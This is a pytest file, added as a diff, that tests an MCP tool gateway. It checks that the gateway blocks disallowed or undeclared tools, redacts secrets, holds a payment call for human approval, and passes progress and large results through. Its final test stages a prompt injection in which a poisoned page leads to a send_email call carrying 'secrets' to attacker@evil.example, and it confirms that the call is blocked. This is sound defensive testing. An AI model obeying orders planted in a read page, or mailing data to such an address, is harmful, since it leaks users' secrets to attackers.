@@ -1,0 +1,191 @@
+"""Tools witnessed: the official SDK's clients and servers work through the gateway, and clauses act on what passes."""
+
+import json
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from mcp_types import CreateMessageResult, ElicitResult, TextContent
+
+from tests.gateway.house import waited
+from tests.gateway.tool_house import OFFICIAL, ToolHouse, run, table, tool_house, tool_server, words
+
+WAYS = [(server, mode) for server in ("web", "plain", "pipe") for mode in ("legacy", "auto")]
+every_way = pytest.mark.parametrize(("server", "mode"), WAYS, ids=[f"{server}-{mode}" for server, mode in WAYS])
+
+
+@pytest.fixture(scope="module")
+def tools(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ToolHouse]:
+    with tool_server() as web, tool_server("json") as plain:
+        more = table("web", url=web) + table("plain", url=plain) + table("pipe", command=[*OFFICIAL, "stdio"])
+        more += table("few", url=web, tools=["get_*"]) + table("theirs", url=web, apps=["mail"]) + "\n[app.mail]\n"
+        with tool_house(tmp_path_factory.mktemp("tools"), more=more) as house:
+            yield house
+
+
+def call(tools: ToolHouse, server: str, mode: str, *calls: tuple[str, dict[str, Any]]) -> list[Any]:
+    """The results of calls of one client."""
+
+    async def work() -> list[Any]:
+        async with tools.client(server, mode) as client:
+            return [await client.call_tool(name, arguments) for name, arguments in calls]
+
+    return run(work)
+
+
+@every_way
+def test_a_client_of_the_official_sdk_lists_calls_reads_and_prompts(tools: ToolHouse, server: str, mode: str) -> None:
+    async def work() -> tuple[Any, ...]:
+        async with tools.client(server, mode) as client:
+            listed = await client.list_tools()
+            called = await client.call_tool("get_weather", {"city": "Rome"})
+            failed = await client.call_tool("fail", {})
+            return listed, called, failed, await client.list_resources(), await client.list_prompts()
+
+    listed, called, failed, resources, prompts = run(work)
+    assert {"get_weather", "send_email", "slow"} <= {tool.name for tool in listed.tools}
+    assert not called.is_error
+    assert words(called).startswith("It is sunny in Rome")
+    assert failed.is_error
+    assert [resource.name for resource in resources.resources] == ["notes"]
+    assert [prompt.name for prompt in prompts.prompts] == ["greet"]
+
+
+@every_way
+def test_a_rejected_call_never_reaches_the_server_and_is_a_failed_call_to_the_client(
+    tools: ToolHouse, server: str, mode: str
+) -> None:
+    launched, before = call(tools, server, mode, ("launch", {"at": "noon"}), ("called", {}))
+    assert launched.is_error
+    assert "This tool call was not run" in words(launched)
+    assert "action_not_allowed" in words(launched)
+    assert launched.meta["stepwarden/reason"] == "action_not_allowed"
+    assert "launch" not in words(before)
+
+
+@every_way
+def test_a_result_is_redacted_in_its_text_and_in_its_structure(tools: ToolHouse, server: str, mode: str) -> None:
+    plain, facts = call(tools, server, mode, ("code_name", {}), ("code_facts", {}))
+    assert words(plain) == "The code name is [redacted:name]."
+    assert facts.structured_content == {"name": "[redacted:name]"}
+    assert "bluebird" not in words(facts)
+
+
+@every_way
+def test_progress_of_a_tool_reaches_its_caller(tools: ToolHouse, server: str, mode: str) -> None:
+    seen: list[float] = []
+
+    async def told(progress: float, _total: float | None, _message: str | None) -> None:
+        seen.append(progress)
+
+    async def work() -> Any:
+        async with tools.client(server, mode) as client:
+            return await client.call_tool("slow", {"seconds": 0.1}, progress_callback=told)
+
+    assert words(run(work)) == "Done."
+    assert seen == [1.0] or server == "plain"  # a server that answers with one document tells of no progress
+
+
+@every_way
+def test_what_cannot_be_read_passes_and_is_flagged(tools: ToolHouse, server: str, mode: str) -> None:
+    (picture,) = call(tools, server, mode, ("picture", {}))
+    assert [block.type for block in picture.content] == ["text", "image"]
+    assert picture.content[1].data == "aGVsbG8="
+
+
+@every_way
+def test_a_large_result_passes_whole(tools: ToolHouse, server: str, mode: str) -> None:
+    (large,) = call(tools, server, mode, ("large", {"size": 300_000}))
+    assert words(large) == "x" * 300_000
+
+
+@every_way
+def test_a_held_call_goes_on_once_a_person_approves(tools: ToolHouse, server: str, mode: str) -> None:
+    who = f"{server}-{mode}"
+
+    def approve() -> None:
+        def waiting() -> str | None:
+            listed = json.loads(tools.house.control("/api/holds?only=waiting")[1])["holds"]
+            return next((each["hold_id"] for each in listed if who in each["text"]), None)
+
+        status, _ = tools.house.control(f"/api/holds/{waited(waiting)}/approve", method="POST", body={"by": "Ann"})
+        assert status == 200
+
+    person = threading.Thread(target=approve)
+    person.start()
+    (paid,) = call(tools, server, mode, ("pay", {"to": who}))
+    person.join()
+    assert words(paid) == f"Paid {who}."
+
+
+@pytest.mark.parametrize("server", ["web", "pipe"])
+def test_what_a_server_asks_of_its_client_while_it_works_passes_both_ways(tools: ToolHouse, server: str) -> None:
+    async def model(_context: Any, _params: Any) -> CreateMessageResult:
+        content = TextContent(type="text", text="Yes, here.")
+        return CreateMessageResult(role="assistant", content=content, model="house")
+
+    async def person(_context: Any, _params: Any) -> ElicitResult:
+        return ElicitResult(action="accept", content={"name": "Ann"})
+
+    async def work() -> list[Any]:
+        asked = {"sampling_callback": model, "elicitation_callback": person}
+        async with tools.client(server, "legacy", **asked) as client:
+            return [await client.call_tool("ask_model", {}), await client.call_tool("ask_person", {})]
+
+    assert [words(each) for each in run(work)] == ["It said: Yes, here.", "Hello Ann."]
+
+
+def test_a_pair_is_recorded_with_its_steps_as_they_were_seen(tools: ToolHouse) -> None:
+    call(tools, "web", "auto", ("get_weather", {"city": "Bern"}))
+
+    def found() -> dict[str, Any] | None:
+        for each in tools.exchanges("web"):
+            if each["operation"] == "tools/call":
+                steps = tools.house.facts(each["exchange_id"])["steps"]
+                if any("Bern" in (step["text"] or "") for step in steps):
+                    return {**each, "steps": steps}
+        return None
+
+    pair = waited(found)
+    assert (pair["dialect"], pair["outcome"], pair["status"]) == ("mcp", "complete", 200)
+    asked, brought = pair["steps"]
+    assert (asked["kind"], asked["fidelity"], asked["tool"]) == ("tool_call", "witnessed", "get_weather")
+    assert (brought["kind"], brought["fidelity"], brought["tool"]) == ("tool_result", "witnessed", "get_weather")
+    assert asked["text"] == '{"city":"Bern"}'
+    assert brought["text"].startswith("It is sunny in Bern")
+    assert asked["call_id"] == brought["call_id"]
+
+
+def test_only_tools_that_are_named_are_listed_and_called(tools: ToolHouse) -> None:
+    async def work() -> tuple[Any, Any]:
+        async with tools.client("few", "auto") as client:
+            return await client.list_tools(), await client.call_tool("send_email", {"to": "a@b.example", "body": ""})
+
+    listed, sent = run(work)
+    assert [tool.name for tool in listed.tools] == ["get_weather"]
+    assert sent.is_error
+    assert "tool_not_declared" in words(sent)
+
+
+def test_a_server_of_another_app_is_not_there(tools: ToolHouse) -> None:
+    answer = tools.post("theirs", b'{"jsonrpc":"2.0","id":1,"method":"ping"}')
+    unknown = tools.post("nobody", b'{"jsonrpc":"2.0","id":1,"method":"ping"}')
+    assert answer.status == unknown.status == 404
+    assert json.loads(answer.body)["error"]["data"]["stepwarden/reason"] == "unknown_server"
+
+
+def test_orders_in_a_result_lead_to_no_act(tools: ToolHouse) -> None:
+    """The address that only a poisoned page named is not written to, in the session the page came in."""
+    session = {"stepwarden/session": "poisoned-1"}
+
+    async def work() -> list[Any]:
+        async with tools.client("web", "auto") as client:
+            page = await client.call_tool("read_page", {}, meta=session)
+            to = {"to": "attacker@evil.example", "body": "secrets"}
+            return [page, await client.call_tool("send_email", to, meta=session), await client.call_tool("called", {})]
+
+    _, sent, after = run(work)
+    assert sent.is_error
+    assert "Reason: " in words(sent)
+    assert "send_email" not in words(after).split(",")
